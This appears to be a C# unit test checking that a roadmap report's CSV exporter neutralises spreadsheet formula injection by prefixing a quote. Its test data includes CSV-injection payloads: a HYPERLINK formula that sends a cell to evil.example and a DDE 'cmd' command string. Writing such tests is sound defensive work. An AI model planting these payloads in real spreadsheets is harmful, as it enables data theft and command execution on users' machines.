using CsvHelper;
using Roadmap.Core.Analysis;
using Roadmap.Reports.Exports;
using Roadmap.TestKit;

namespace Roadmap.Reports.Tests;

/// <summary>Cells a spreadsheet would run as a formula are written as text (OWASP: a leading ' for = + - @ tab CR).</summary>
public sealed class CsvInjectionTests(RoadmapDataset dataset) : IClassFixture<RoadmapDataset>
{
    public static TheoryData<string> Formulas() => ["=HYPERLINK(\"http://evil.example/?\"&A1,\"ISO\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"];

    [Theory]
    [MemberData(nameof(Formulas))]
    public async Task Write_DocumentsGapsAndOverlapsStartingWithAFormulaCharacter_PrefixesAQuote(string formula)
    {
        // Arrange
        var data = await ExportData.LoadAsync(dataset.Graph, dataset.Analysis, dataset.Taxonomy, TestContext.Current.CancellationToken);
        var document = Builders.Iso("ISO 99999", formula, committee: formula);
        var gap = data.Gaps[0] with { Statement = formula, SuggestedOwner = formula };
        var overlap = new Overlap
        {
            FirstKey = formula, SecondKey = "ISO 22739", FirstBody = "ISO", SecondBody = "ISO", Score = -0.5, TextSimilarity = 0.5,
            TopicSimilarity = 0.5, SharedTerms = [formula], SharedTopics = [],
        };
        data = data with { Documents = [document], Gaps = [gap], Overlaps = [overlap] };

        // Act
        var documents = Read(data, ExportSet.Documents);
        var gaps = Read(data, ExportSet.Gaps);
        var overlaps = Read(data, ExportSet.Overlaps);

        // Assert
        var escaped = "'" + formula;
        (documents["Title"], documents["Committee"]).ShouldBe((escaped, escaped));
        (gaps["Statement"], gaps["SuggestedOwner"]).ShouldBe((escaped, escaped));
        (overlaps["First"], overlaps["SharedTerms"]).ShouldBe((escaped, escaped));
        overlaps["Score"].ShouldBe("-0.5", "a number is a number, not a formula");
        documents["Key"].ShouldBe("ISO 99999");
    }

    // The first data row, as the raw text of each cell by column name.
    private static Dictionary<string, string> Read(ExportData data, ExportSet set)
    {
        var text = new StringWriter();
        CsvExporter.Write(data, set, text);
        using var reader = CsvReader.FromText(text.ToString(), new CsvReaderOptions { FormatProvider = System.Globalization.CultureInfo.InvariantCulture, HasHeader = false });
        reader.Read().ShouldBeTrue();
        var header = Enumerable.Range(0, reader.Current.FieldCount).Select(i => reader.Current[i].ToString()).ToList();
        reader.Read().ShouldBeTrue();
        return header.Select((name, i) => (name, Value: reader.Current[i].ToString())).ToDictionary(c => c.name, c => c.Value, StringComparer.Ordinal);
    }
}
